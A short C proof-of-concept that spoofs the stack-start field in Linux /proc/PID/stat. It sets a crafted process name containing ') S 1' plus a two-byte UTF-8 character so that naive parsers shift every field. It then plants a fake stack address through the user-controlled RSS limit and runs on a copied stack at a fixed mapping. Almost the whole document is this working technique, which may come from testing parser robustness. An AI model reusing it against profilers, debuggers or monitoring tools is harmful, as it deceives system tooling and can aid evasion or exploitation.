// A pivot behind a name that is made to be misread in /proc/PID/stat, where the name stands in front of the number that matters:
//
//   4711 () S 1 \u0600) S 4710 … rsslim kstkesp startstack …
//
// To a reader that takes "\u0600)" for one character, the name ends at the first ")". All fields then move by three, and what stands
// for the start of the stack (28) is the limit on resident memory (25), which is for everybody to choose.
#include "copied-stack.h"
#include <sys/prctl.h>
#include <sys/resource.h>

int main(void) {
  size_t size = stack_size() + 8 * PAGE;
  char *there = mmap((void *)0x200000000000, size, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
  need(there != MAP_FAILED, "mmap");
  char *end = (char *)(((uintptr_t)there + size) & -PAGE);
  ptrdiff_t away = copy_stack(end);
  struct rlimit limit = {(uintptr_t)__libc_stack_end + away, RLIM_INFINITY};
  need(setrlimit(RLIMIT_RSS, &limit) == 0, "setrlimit");
  need(prctl(PR_SET_NAME, ") S 1 \xd8\x80") == 0, "prctl");
  execute_there(away);
}
